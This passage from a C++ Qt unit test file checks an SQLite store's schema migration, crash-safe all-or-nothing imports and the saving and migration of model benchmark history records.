                       "url TEXT NOT NULL DEFAULT '', published TEXT NOT NULL DEFAULT '', source_kind TEXT NOT NULL, "
                       "note TEXT NOT NULL DEFAULT '')"),
        QStringLiteral("CREATE TABLE figures (id TEXT PRIMARY KEY, category TEXT NOT NULL, entity TEXT NOT NULL, "
                       "metric TEXT NOT NULL, value REAL NOT NULL, low REAL, high REAL, unit TEXT NOT NULL, "
                       "period TEXT NOT NULL, period_start REAL NOT NULL, period_end REAL NOT NULL, kind TEXT NOT NULL, "
                       "source_id TEXT NOT NULL REFERENCES sources(id), read_in TEXT REFERENCES sources(id), "
                       "quoted TEXT NOT NULL, quote TEXT NOT NULL, note TEXT NOT NULL DEFAULT '')"),
        QStringLiteral("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)"),
        QStringLiteral("CREATE TABLE scenarios (name TEXT PRIMARY KEY, json TEXT NOT NULL, saved_at TEXT NOT NULL)"),
        QStringLiteral("INSERT INTO sources VALUES ('s', 'A report', 'Someone', 'https://example.org/r', '2025', 'report', '')"),
        QStringLiteral("INSERT INTO figures VALUES ('old', 'capex', 'Acme', 'Capex', 5e9, NULL, NULL, 'USD', '2025', "
                       "2025, 2026, 'reported', 's', NULL, '$5 billion', 'Acme spent $5 billion', '')"),
        QStringLiteral("PRAGMA user_version = 1"),
    });
    QCOMPARE(0x43434C46, 1128483910);
    auto user = store::UserStore::open(path);
    QVERIFY2(user.ok(), user.ok() ? "" : user.error().toString().c_str());
    auto choices = user->choices();
    QVERIFY(choices.ok());
    QVERIFY(choices->empty());
    QVERIFY(userFigures(path).findFigure("old"));
    auto report = store::checkStore(path);
    QVERIFY(report.ok());
    QCOMPARE(report->schemaVersion, store::kUserSchemaVersion);
    auto history = store::BenchHistory::open(path);
    QVERIFY(history.ok());
    auto runs = history->runs();
    QVERIFY(runs.ok());
    QVERIFY(runs->empty());
}

void TestStore::killedImportLeavesAllOrNone()
{
    constexpr int kRows = 60000;
    QByteArray text(kListingHeader);
    for (int i = 0; i < kRows; ++i)
        text += userRow("kill-" + QByteArray::number(i), QByteArray::number(i % 900 + 1));
    const QString csvPath = m_dir.filePath(QStringLiteral("kill.csv"));
    writeFile(csvPath, text);
    const QString path = m_dir.filePath(QStringLiteral("killed.sqlite"));
    {
        // One figure already there, which must survive.
        auto user = store::UserStore::open(path);
        QVERIFY(user.ok());
        auto preview = store::checkImport((QByteArray(kListingHeader) + userRow("before", "3")).toStdString(),
                                          "before.csv", {}, {});
        QVERIFY(preview.ok());
        QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());
    }

    // The writer stops half-way through its transaction and is killed there.
    QProcess writer;
    writer.start(QStringLiteral(CLIFF_IMPORT_WRITER), {csvPath, path, QString::number(kRows / 2)});
    QVERIFY(writer.waitForStarted());
    QElapsedTimer waited;
    waited.start();
    while (!writer.readAllStandardOutput().contains("paused") && waited.elapsed() < 120000)
        QVERIFY2(writer.waitForReadyRead(300000), writer.readAllStandardError().constData());
    // Half the rows are past SQLite's page cache: uncommitted pages are in the WAL file on disk.
    const qint64 walBytes = QFileInfo(path + QStringLiteral("-wal")).size();
    QVERIFY2(walBytes > 1000000, qPrintable(QString::number(walBytes)));
    QCOMPARE(::kill(pid_t(writer.processId()), SIGKILL), 0);
    QVERIFY(writer.waitForFinished(300000));
    QCOMPARE(writer.exitStatus(), QProcess::CrashExit);

    QCOMPARE(countRows(path, QStringLiteral("figures")), 1);
    auto report = store::checkStore(path);
    QVERIFY2(report.ok(), report.ok() ? "" : report.error().toString().c_str());
    QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
    const store::Dataset after = userFigures(path);
    QCOMPARE(after.figures.size(), std::size_t(1));
    QVERIFY(after.findFigure("before"));

    // Left to finish, the same import writes every row.
    QProcess finisher;
    finisher.start(QStringLiteral(CLIFF_IMPORT_WRITER), {csvPath, path, QStringLiteral("0")});
    QVERIFY(finisher.waitForFinished(300000));
    QVERIFY2(finisher.exitCode() == 0, finisher.readAllStandardError().constData());
    QCOMPARE(countRows(path, QStringLiteral("figures")), kRows + 1);
}

namespace {

store::BenchRun benchRun(const std::string &preset, const std::string &runAt, double decode)
{
    store::BenchRun run;
    run.runAtUtc = runAt;
    run.preset = preset;
    run.precision = "int8";
    run.machine = {"Test CPU", 8, 4, 16e9, "avx2+fma", "RelWithDebInfo", "gcc 12"};
    run.decodeTokensPerSecond = decode;
    run.decodeTokensPerSecondStddev = 0.5;
    run.prefillTokensPerSecond = 4 * decode;
    run.prefillTokensPerSecondStddev = 1.5;
    run.decodeRooflineFraction = 0.7;
    run.decodeTriadFraction = 0.8;
    run.prefillGemmFraction = 0.6;
    run.prefillPeakFraction = 0.4;
    run.bandwidthReadGbPerSecond = 46.0;
    run.bandwidthTriadGbPerSecond = 40.0;
    run.gemmPeakGflopsPerSecond = 300.0;
    run.instructionPeakGflopsPerSecond = 450.0;
    run.decodeUsdPerMillionTokens = 1.0 / decode;
    run.prefillUsdPerMillionTokens = 0.25 / decode;
    run.powerWatts = 200.0;
    run.electricityUsdPerKwh = 0.15;
    run.hardwareUsd = 2000.0;
    run.amortisationYears = 3.0;
    run.scaled = "allocated 2 of 16 layers";
    run.reportJson = "{\"preset\": \"" + preset + "\"}";
    run.samples = {{"decode_tokens_per_s", 0, decode - 1.0},
                   {"decode_tokens_per_s", 1, decode + 1.0},
                   {"prefill_tokens_per_s", 0, 4 * decode}};
    return run;
}

} // namespace

void TestStore::benchHistoryKeepsRunsAndSamples()
{
    const QString path = m_dir.filePath(QStringLiteral("bench-history.sqlite"));
    auto history = store::BenchHistory::open(path);
    QVERIFY2(history.ok(), history.ok() ? "" : history.error().toString().c_str());
    auto none = history->latestCost();
    QVERIFY(none.ok());
    QVERIFY(!none->has_value());

    store::BenchRun older = benchRun("olmoe-1b-7b", "2025-03-01T10:00:00Z", 20.0);
    older.denseOverMoeTimeRatio = 7.5;
    const store::BenchRun newer = benchRun("qwen3-30b-a3b", "2025-03-02T09:00:00Z", 8.0);
    QVERIFY(history->save(older).ok());
    QVERIFY(history->save(newer).ok());

    // Reopened from the file: newest first, every field and sample as saved.
    history = store::BenchHistory::open(path);
    QVERIFY(history.ok());
    auto runs = history->runs();
    QVERIFY(runs.ok());
    QCOMPARE(runs->size(), std::size_t{2});
    const store::BenchRun &first = runs->at(0);
    const store::BenchRun &second = runs->at(1);
    QCOMPARE(first.preset, std::string("qwen3-30b-a3b"));
    QCOMPARE(second.preset, std::string("olmoe-1b-7b"));
    QVERIFY(first.id != second.id);
    QCOMPARE(second.runAtUtc, std::string("2025-03-01T10:00:00Z"));
    QCOMPARE(second.machine.cpuModel, std::string("Test CPU"));
    QCOMPARE(second.machine.logicalCores, 8);
    QCOMPARE(second.machine.threadsUsed, 4);
    QCOMPARE(second.machine.ramTotalBytes, 16e9);
    QCOMPARE(second.machine.simd, std::string("avx2+fma"));
    QCOMPARE(second.machine.buildType, std::string("RelWithDebInfo"));
    QCOMPARE(second.decodeTokensPerSecond, 20.0);
    QCOMPARE(second.prefillTokensPerSecond, 80.0);
    QCOMPARE(second.decodeUsdPerMillionTokens, 0.05);
    QCOMPARE(second.hardwareUsd, 2000.0);
    QCOMPARE(second.scaled, std::string("allocated 2 of 16 layers"));
    QCOMPARE(second.reportJson, std::string("{\"preset\": \"olmoe-1b-7b\"}"));
    QCOMPARE(second.decodeRooflineFraction, std::optional<double>(0.7));
    QCOMPARE(second.decodeTriadFraction, 0.8);
    QCOMPARE(second.prefillPeakFraction, std::optional<double>(0.4));
    QCOMPARE(second.prefillGemmFraction, 0.6);
    QCOMPARE(second.bandwidthReadGbPerSecond, std::optional<double>(46.0));
    QCOMPARE(second.bandwidthTriadGbPerSecond, 40.0);
    QCOMPARE(second.instructionPeakGflopsPerSecond, std::optional<double>(450.0));
    QVERIFY(second.denseOverMoeTimeRatio.has_value());
    QCOMPARE(*second.denseOverMoeTimeRatio, 7.5);
    QVERIFY(!first.denseOverMoeTimeRatio.has_value());
    QCOMPARE(second.samples.size(), std::size_t{3});
    QCOMPARE(second.samples[0].measure, std::string("decode_tokens_per_s"));
    QCOMPARE(second.samples[0].repetition, 0);
    QCOMPARE(second.samples[0].value, 19.0);
    QCOMPARE(second.samples[1].value, 21.0);
    QCOMPARE(second.samples[2].measure, std::string("prefill_tokens_per_s"));
    QCOMPARE(second.samples[2].value, 80.0);

    // The cost-curves series point is the newest run's, whatever order they were saved in.
    QVERIFY(history->save(benchRun("mixtral-8x7b", "2025-02-01T00:00:00Z", 2.0)).ok());
    auto latest = history->latestCost();
    QVERIFY(latest.ok());
    QVERIFY(latest->has_value());
    QCOMPARE(latest->value().preset, std::string("qwen3-30b-a3b"));
    QCOMPARE(latest->value().decodeUsdPerMillionTokens, 0.125);
    QCOMPARE(latest->value().prefillUsdPerMillionTokens, 0.03125);
    QCOMPARE(latest->value().runAtUtc, std::string("2025-03-02T09:00:00Z"));
    QCOMPARE(latest->value().cpuModel, std::string("Test CPU"));
    QCOMPARE(latest->value().threadsUsed, 4);
}

void TestStore::benchHistoryRefusesUnknownMeasures()
{
    const QString path = m_dir.filePath(QStringLiteral("bench-refused.sqlite"));
    auto history = store::BenchHistory::open(path);
    QVERIFY(history.ok());
    store::BenchRun run = benchRun("olmoe-1b-7b", "2025-03-01T10:00:00Z", 20.0);
    run.samples.push_back({"vibes_per_s", 0, 1.0});
    auto saved = history->save(run);
    QVERIFY(!saved.ok());
    QCOMPARE(saved.error().field, std::string("measure"));
    // A duplicate sample breaks the primary key half-way: the run is rolled back with it.
    run.samples.pop_back();
    run.samples.push_back(run.samples.front());
    QVERIFY(!history->save(run).ok());
    auto runs = history->runs();
    QVERIFY(runs.ok());
    QVERIFY(runs->empty());
    QCOMPARE(countRows(path, QStringLiteral("bench_samples")), 0);
}

// A run saved when decode was measured against the triad keeps that figure as its triad
// fraction; its read-only fraction comes from its report, or stays unknown when the report has
// none. Nothing claims an instruction peak it never measured.
void TestStore::oldBenchRunsMoveToPhysicalCeilings()
{
    const QString path = fixtureCopy(m_dir, QStringLiteral("old-bench"), QStringLiteral("v3_delete_journal.sqlite"));
    QVERIFY(!path.isEmpty());
    const QString oldRun = QStringLiteral(
        "INSERT INTO bench_runs (run_at, preset, precision, cpu_model, logical_cores, threads_used, "
        "ram_total_bytes, simd, build_type, compiler, decode_tokens_per_s, decode_tokens_per_s_stddev, "
        "prefill_tokens_per_s, prefill_tokens_per_s_stddev, decode_roofline_fraction, "
        "prefill_gemm_fraction, bandwidth_gbps_measured, gemm_peak_gflops_measured, "
        "decode_usd_per_million_tokens, prefill_usd_per_million_tokens, power_w, "
        "electricity_usd_per_kwh, hardware_usd, amortisation_years, scaled, report_json) VALUES "
        "('%1', 'olmoe-1b-7b', 'fp32', 'CPU', 2, 2, 1e9, 'avx2+fma', 'Release', 'gcc', 40, 1, 700, 5, "
        "0.86, 0.95, 58.0, 217, 1, 1, 100, 0.1, 1000, 3, '', '%2')");
    execSql(path, {oldRun.arg(QStringLiteral("2025-06-01T00:00:00Z"),
                              QStringLiteral("{\"decode_read_roofline_fraction\": 0.74, "
                                             "\"bandwidth_gbps_read_measured\": 67.5}")),
                   oldRun.arg(QStringLiteral("2025-05-01T00:00:00Z"), QStringLiteral("{}"))});
    // Read without migrating, the file's old columns give the same figures as after it.
    auto reader = store::BenchHistory::openForReading(path);
    QVERIFY(reader.ok());
    auto read = reader->runs();
    QVERIFY(read.ok());
    QCOMPARE(read->size(), std::size_t{2});
    QCOMPARE(read->at(0).decodeRooflineFraction, std::optional<double>(0.74));
    QCOMPARE(read->at(0).decodeTriadFraction, 0.86);
    QVERIFY(!read->at(1).decodeRooflineFraction && !read->at(0).prefillPeakFraction);

    auto history = store::BenchHistory::open(path);
    QVERIFY2(history.ok(), history.ok() ? "" : history.error().toString().c_str());
    auto runs = history->runs();
    QVERIFY(runs.ok());
    QCOMPARE(runs->size(), std::size_t{2});
    const store::BenchRun &withRead = runs->at(0);
    QCOMPARE(withRead.decodeTriadFraction, 0.86);
    QCOMPARE(withRead.bandwidthTriadGbPerSecond, 58.0);
    QCOMPARE(withRead.decodeRooflineFraction, std::optional<double>(0.74));
    QCOMPARE(withRead.bandwidthReadGbPerSecond, std::optional<double>(67.5));
    QVERIFY(!withRead.instructionPeakGflopsPerSecond && !withRead.prefillPeakFraction);
    const store::BenchRun &withoutRead = runs->at(1);
    QCOMPARE(withoutRead.decodeTriadFraction, 0.86);
    QVERIFY(!withoutRead.decodeRooflineFraction && !withoutRead.bandwidthReadGbPerSecond);
}

QTEST_GUILESS_MAIN(TestStore)
#include "test_store.moc"
